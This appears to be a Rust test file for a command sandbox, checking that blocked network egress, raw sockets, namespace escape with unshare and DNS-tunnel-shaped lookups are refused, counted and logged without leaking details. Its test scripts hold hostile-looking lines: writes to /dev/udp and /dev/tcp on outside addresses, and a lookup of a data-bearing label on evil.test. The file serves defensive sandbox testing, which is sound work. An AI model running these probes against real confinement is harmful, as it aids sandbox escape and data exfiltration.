//! What is told of what a command tries around the gate.

use confine::{Network, Rung};
use serde_json::json;

use crate::bed::{Bed, DECLARED, say};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_goes_around_the_gate_is_one_event_that_is_always_the_same() {
    let bed = Bed::new(None).await;
    let script = "echo x > /dev/udp/203.0.113.5/9; echo x > /dev/udp/8.8.8.8/4433; unshare -Un true; exit 0";
    let mut first = None;
    for round in 0..4 {
        let ran = bed.run(Rung::A, DECLARED, script).await;
        let ended = ran.ended();
        assert_eq!(ended.exit.code(), 0, "the command lives with it");
        let evidence = ended.evidence.as_ref().unwrap();
        let attempts = ran.attempts();
        assert!(attempts.contains(&"send inet udp reserved 9".to_owned()), "{attempts:?}");
        assert!(attempts.contains(&"send inet udp public 4433".to_owned()), "{attempts:?}");
        assert!(attempts.iter().any(|attempt| attempt.starts_with("unshare ")), "{attempts:?}");
        let violations = bed.violations().await;
        assert_eq!(violations.len(), round + 1, "one event for each call");
        let data = violations.last().unwrap();
        assert_eq!(data["violation_code"], json!("network_egress_blocked"));
        assert_eq!(data["summary"]["digest"], json!(evidence.digest));
        assert_eq!(data["summary"]["rung"], json!("A"));
        let members: Vec<&String> = data["summary"].as_object().unwrap().keys().collect();
        assert_eq!(members, ["attempts", "classes", "digest", "input_hmac", "overflow", "rung", "subjects"]);
        let text = data.to_string();
        assert_eq!(first.get_or_insert(text.clone()), &text, "byte for byte");
        for part in ["8.8.8.8", "203.0.113.5", "/dev/udp", "bash"] {
            assert!(!text.contains(part), "{part} in {text}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_rung_tells_what_it_refuses() {
    let bed = Bed::new(None).await;
    for (rung, script, want) in [
        (Rung::A, "unshare -Un true", "unshare"),
        (Rung::B, "unshare -Un true", "unshare"),
        (Rung::A, "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'", "socket"),
        (Rung::B, "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'", "socket"),
        (Rung::A, "echo x > /dev/udp/8.8.8.8/53", "send"),
        (Rung::A, "exec 3<>/dev/tcp/8.8.8.8/53; printf '\\0\\14abcdefghijkl' >&3; sleep 0.2", "send"),
    ] {
        let ran = bed.run(rung, DECLARED, script).await;
        let attempts = ran.attempts();
        assert!(attempts.iter().any(|attempt| attempt.starts_with(want)), "{rung} {script}: {attempts:?} {}", ran.out);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_feels_its_way_is_counted_and_taints_nothing() {
    let bed = Bed::new(None).await;
    let script = "python3 -c 'import socket; socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0)' 2>/dev/null; true";
    for rung in [Rung::A, Rung::B] {
        let ran = bed.run(rung, Network::None, script).await;
        let ended = ran.ended();
        let noticed: Vec<String> = ended.noticed.iter().map(say).collect();
        assert!(ended.evidence.is_none() && ended.notices > 0, "{rung}: {noticed:?}");
        assert!(noticed.iter().any(|attempt| attempt.contains(" alg ")), "{rung}: {noticed:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn data_in_names_goes_nowhere_and_is_told() {
    let bed = Bed::new(None).await;
    let label = "c4na2y".repeat(9);
    let ran = bed.run(Rung::A, DECLARED, &format!("getent hosts {label}.evil.test; true")).await;
    assert_eq!(ran.attempts(), ["resolve_tunnel_shaped none dns name 53"], "{}", ran.out);
    let violations = bed.violations().await;
    assert!(!violations[0].to_string().contains("c4na2y"));
    let store = std::fs::read_dir(bed.store.dir()).unwrap().map(|entry| entry.unwrap().path());
    for file in store.filter(|path| path.is_file()) {
        let bytes = std::fs::read(&file).unwrap();
        assert!(!bytes.windows(12).any(|window| window == b"c4na2yc4na2y"), "{}", file.display());
    }
}
